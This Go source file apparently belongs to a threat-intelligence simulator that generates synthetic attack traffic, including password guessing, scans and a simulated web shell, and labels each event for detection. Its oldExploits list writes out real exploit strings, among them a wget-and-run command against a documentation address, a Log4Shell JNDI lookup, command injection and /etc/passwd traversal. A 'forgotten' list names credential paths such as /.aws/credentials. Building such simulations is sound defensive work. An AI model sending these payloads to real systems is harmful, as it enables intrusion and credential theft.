package simulate

import (
	"net/netip"
	"time"

	"github.com/vedette-cti/vedette"
)

// background is what everybody on the internet gets.
func (o *org) background() {
	if o.profile.egressOnly {
		// It happens, but no sensor is there to see it.
		o.blind = append(o.blind, "no sensor sees incoming traffic, and the exposed devices' own logs are missing")
		return
	}
	d := newDice(o.sim.Seed, "background of "+o.id)
	rate := o.sim.Scale * o.sim.Noise
	for day := range o.sim.Days {
		from := o.sim.Start.AddDate(0, 0, day)
		moment := func() time.Time { return from.Add(d.span(0, 24*time.Hour)) }
		for range d.count(0.25 * rate) {
			o.guessWordPress(moment(), d)
		}
		for range d.count(0.35 * rate) {
			o.huntSecrets(moment(), d)
		}
		for range d.count(0.35 * rate) {
			o.sendExploits(moment(), d)
		}
		for range d.count(0.5 * rate) {
			o.guessSSH(moment(), d)
		}
		for range d.count(0.4 * rate) {
			o.stuffVPN(moment(), d)
		}
		if day%14 == o.index%14 {
			o.census(moment(), d)
		}
		for range d.count(0.5 * rate) {
			o.searchDevices(moment(), d)
		}
	}
	o.opportunisticEntry(d)
}

// bot is one address of an actor.
func (a *actor) bot(d dice) netip.Addr { return pick(d, a.nodes).addr }

var oldAgents = []string{
	"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
	"python-requests/2.28.1", "Go-http-client/1.1", "-", "curl/7.88.1",
}

func (o *org) guessWordPress(at time.Time, d dice) {
	who := o.crew(wordpressBots, d)
	defer o.by(who.index, guessing)()
	s, client, agent := o.sites[0], who.bot(d), pick(d, who.agents)
	c := o.connect(s, client, at, d)
	c.do(s.get(at, "/wp-login.php", agent, "", d))
	for range 3 + d.IntN(9) {
		at = at.Add(d.seconds(2))
		r := s.get(at, pick(d, []string{"/wp-login.php", "/wp-login.php", "/xmlrpc.php"}), agent, "", d)
		r.method, r.sent = "POST", d.between(90, 260)
		o.mark(who.index, client, vedette.VerdictAttempt, c.do(r))
	}
	c.close()
}

var forgotten = []string{"/.env", "/.git/config", "/.git/HEAD", "/phpinfo.php", "/backup.sql", "/backup.zip", "/config.php.bak",
	"/.aws/credentials", "/server-status", "/.DS_Store", "/api/.env", "/web.config.bak", "/phpmyadmin/index.php", "/pma/", "/admin/.env", "/.vscode/sftp.json", "/docker-compose.yml",
	"/solr/admin/info/system?wt=json", "/actuator/gateway/routes"}

func (o *org) huntSecrets(at time.Time, d dice) {
	who := o.crew(secretHunters, d)
	defer o.by(who.index, probing)()
	s, client, agent := o.sites[0], who.bot(d), pick(d, who.agents)
	c := o.connect(s, client, at, d)
	start := d.IntN(len(forgotten))
	for i := range 4 + d.IntN(8) {
		at = at.Add(d.seconds(0.8))
		o.mark(who.index, client, vedette.VerdictReconnaissance, c.do(s.get(at, forgotten[(start+i*5)%len(forgotten)], agent, "", d)))
	}
	c.close()
}

// oldExploits are requests that have been seen by everyone for years and stand
// in public detection rules; most are GET requests, some carry a body.
var oldExploits = []struct{ method, uri, agent string }{
	{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""},
	{"GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", ""},
	{"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", ""},
	{"POST", "/boaform/admin/formLogin", ""},
	{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws", ""},
	{"POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", ""},
	{"GET", "/", "${jndi:ldap://192.0.2.1:1389/a}"},
	{"GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", ""},
	{"GET", "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/", ""},
	{"POST", "/autodiscover/autodiscover.json?@sim.example/mapi/nspi/", ""},
}

func (o *org) sendExploits(at time.Time, d dice) {
	who := o.crew(exploitBots, d)
	defer o.by(who.index, exploiting)()
	s, client := o.sites[0], who.bot(d)
	c := o.connect(s, client, at, d)
	for range 1 + d.IntN(4) {
		at = at.Add(d.seconds(3))
		x := pick(d, oldExploits)
		agent := x.agent
		if agent == "" {
			agent = pick(d, who.agents)
		}
		r := s.get(at, x.uri, agent, "", d)
		if x.method == "POST" {
			r.method, r.sent = "POST", d.between(40, 300)
		}
		if r.status == 404 && d.chance(0.3) {
			r.status, r.size = 400, 226
		}
		o.mark(who.index, client, vedette.VerdictAttempt, c.do(r))
	}
	c.close()
}

var accounts = []string{"root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "deploy", "ftpuser", "pi", "guest", "hadoop", "nagios"}

func (o *org) guessSSH(at time.Time, d dice) {
	if !o.shelled() {
		return
	}
	who := o.crew(sshBots, d)
	defer o.by(who.index, guessing)()
	client := who.bot(d)
	for range 4 + d.IntN(14) {
		user := pick(d, accounts)
		seen := o.ssh(login{at: at, client: client, user: user, known: user == "root", method: "password"}, d)
		o.mark(who.index, client, vedette.VerdictAttempt, seen)
		at = at.Add(3*time.Second + d.seconds(20))
	}
}

func (o *org) stuffVPN(at time.Time, d dice) {
	who := o.crew(vpnBots, d)
	defer o.by(who.index, guessing)()
	for range 2 + d.IntN(5) {
		client := who.bot(d)
		p := person{name: pick(d, []string{"admin", "test", "vpn", "user1", "guest", "support", "mei", "chen"}), host: "DESKTOP-SIM", id: "00000000000000000000000000000000"}
		o.mark(who.index, client, vedette.VerdictAttempt, o.vpnLogin(p, client, at, false, 0, d))
		at = at.Add(30*time.Second + d.seconds(400))
	}
}

// knock is one attempt to open a TCP connection.
func (o *org) knock(at time.Time, client netip.Addr, host, port int, d dice) bool {
	f := flow{at: at, src: client, dst: o.host(host), dport: port, proto: "tcp", state: pick(d, []string{"S0", "S0", "S0", "REJ"})}
	f.identify(d)
	return o.flow(f)
}

func (o *org) census(at time.Time, d dice) {
	defer o.by(internetCensus, scanning)()
	client := o.sim.actors[internetCensus].bot(d)
	const agent = "Mozilla/5.0 (compatible; SimInternetCensus/1.0; +https://census.sim.example/)"
	for _, port := range []int{22, 80, 443, 8080} {
		for _, host := range []int{hostWeb, hostMail, hostVPN} {
			at = at.Add(d.seconds(30))
			o.mark(internetCensus, client, vedette.VerdictReconnaissance, o.knock(at, client, host, port, d))
		}
	}
	s := o.sites[0]
	c := o.connect(s, client, at, d)
	o.mark(internetCensus, client, vedette.VerdictReconnaissance, c.do(s.get(at, "/", agent, "", d)))
	o.mark(internetCensus, client, vedette.VerdictReconnaissance, c.do(s.get(at.Add(time.Second), "/.well-known/security.txt", agent, "", d)))
	c.close()
}

func (o *org) searchDevices(at time.Time, d dice) {
	defer o.by(deviceSearch, scanning)()
	client := o.sim.actors[deviceSearch].bot(d)
	for range 5 + d.IntN(6) {
		at = at.Add(d.seconds(90))
		port := pick(d, []int{21, 23, 102, 161, 502, 1433, 2323, 3306, 3389, 5060, 5555, 5900, 6379, 7547, 8443, 9200, 27017})
		o.mark(deviceSearch, client, vedette.VerdictReconnaissance, o.knock(at, client, d.between(1, 40), port, d))
	}
	if o.vpn != nil {
		o.mark(deviceSearch, client, vedette.VerdictReconnaissance, o.vpn.probe(at, client, d.chance(0.5), d))
	}
}

// opportunisticEntry is the rare case in which a bot's luck holds: weak SSH
// password at the planned organization, or a forgotten upload script.
func (o *org) opportunisticEntry(d dice) {
	at := o.sim.Start.AddDate(0, 0, o.sim.Days/2+o.index%7).Add(d.span(0, 24*time.Hour))
	day := at.Format(time.DateOnly)
	switch {
	case o.has("weak-ssh"):
		who := o.crew(sshBots, d)
		defer o.by(who.index, entering)()
		client := who.bot(d)
		for range 24 {
			o.ssh(login{at: at, client: client, user: pick(d, accounts), method: "password"}, d)
			at = at.Add(4*time.Second + d.seconds(4))
		}
		effects := 0
		for range 4 {
			l := login{at: at, client: client, user: "backup", known: true, method: "password", ok: true, stays: d.seconds(300)}
			if o.ssh(l, d) {
				effects++
				o.auth.sudo(at.Add(30*time.Second), "backup", "/usr/sbin/useradd -m simsvc")
			}
			at = at.Add(d.span(20*time.Hour, 50*time.Hour))
		}
		o.mark(who.index, client, vedette.VerdictCompromise, effects >= 2)
		o.notes = append(o.notes, "an SSH password guesser got in as \"backup\" from "+day+" on (opportunistic)")
	case o.has("weak-upload"):
		who := o.crew(exploitBots, d)
		client := who.bot(d)
		o.dropShell(shell{actor: who.index, script: "/wp-content/plugins/sim-gallery/cache/" + d.letters(6, "abcdef0123456789") + ".php",
			upload: "/wp-content/plugins/sim-gallery/upload.php", first: client, from: at,
			back:  []time.Time{at.Add(26 * time.Hour), at.Add(75 * time.Hour)},
			hands: func(time.Time) []netip.Addr { return []netip.Addr{client} },
			agent: func(time.Time) string { return firstKits[0].shellAgent }}, d)
		o.notes = append(o.notes, "a bot put a web shell on the site on "+day+" (opportunistic)")
	}
}
